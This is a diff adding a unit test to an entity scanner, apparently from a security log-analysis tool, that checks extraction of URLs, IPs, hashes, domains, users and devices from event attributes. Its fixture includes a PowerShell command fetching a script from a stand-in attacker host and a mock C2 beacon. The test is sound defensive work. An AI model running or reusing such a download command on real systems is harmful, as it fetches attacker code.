@@ -78,6 +78,41 @@ describe('scanRunEntities', () => {
     expect(byValue(book)[`hash ${sha1}`]!.count).toBe(2);
   });
 
+  it('reads every attribute, not only the message: addresses, URLs, e-mail, hashes anywhere; paths, domains, users and machines where the name says', () => {
+    const book = new TallyBook();
+    const sha256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
+    scanRunEntities(
+      runOf([
+        event(7, 'Process Create', {
+          CommandLine: 'powershell -c iwr https://dl.evil.example/a.ps1 -OutFile C:\\Temp\\a.ps1',
+          Details: 'beacon to 198.51.100.23:443 and fe80::1c2b:3d4e:5f60:7a8b, report to ops@corp.example',
+          Hashes: `SHA256=${sha256}`,
+          QueryName: 'c2.evil.example',
+          ImageLoaded: 'C:\\Temp\\evil.dll',
+          TargetUserName: 'svc_backup',
+          WorkstationName: 'WKS-7',
+          EventRecordID: '18446744073709551615',
+          // Defender's device id is 40 hex digits, like a SHA-1, but its name says it is an id.
+          DeviceId: '73e7e2de709dff64ef64b1d0c30e67fab63279db',
+        }),
+      ]),
+      book,
+    );
+    expect(byValue(book)).toEqual({
+      'url https://dl.evil.example/a.ps1': { first: 7, last: 7, count: 1 },
+      'domain dl.evil.example': { first: 7, last: 7, count: 1 },
+      'ip 198.51.100.23': { first: 7, last: 7, count: 1 },
+      'ip fe80::1c2b:3d4e:5f60:7a8b': { first: 7, last: 7, count: 1 },
+      'emailAddress ops@corp.example': { first: 7, last: 7, count: 1 },
+      'domain corp.example': { first: 7, last: 7, count: 1 },
+      [`hash ${sha256}`]: { first: 7, last: 7, count: 1 },
+      'domain c2.evil.example': { first: 7, last: 7, count: 1 },
+      'filePath C:\\Temp\\evil.dll': { first: 7, last: 7, count: 1 },
+      'user svc_backup': { first: 7, last: 7, count: 1 },
+      'device WKS-7': { first: 7, last: 7, count: 1 },
+    });
+  });
+
   it('hands over each address with its canonical text as value and key, and its entity id', () => {
     const book = new TallyBook();
     const addresses = ['0.0.0.1', '10.0.0.1', '192.168.100.254', '255.255.255.255', '8.8.8.8'];
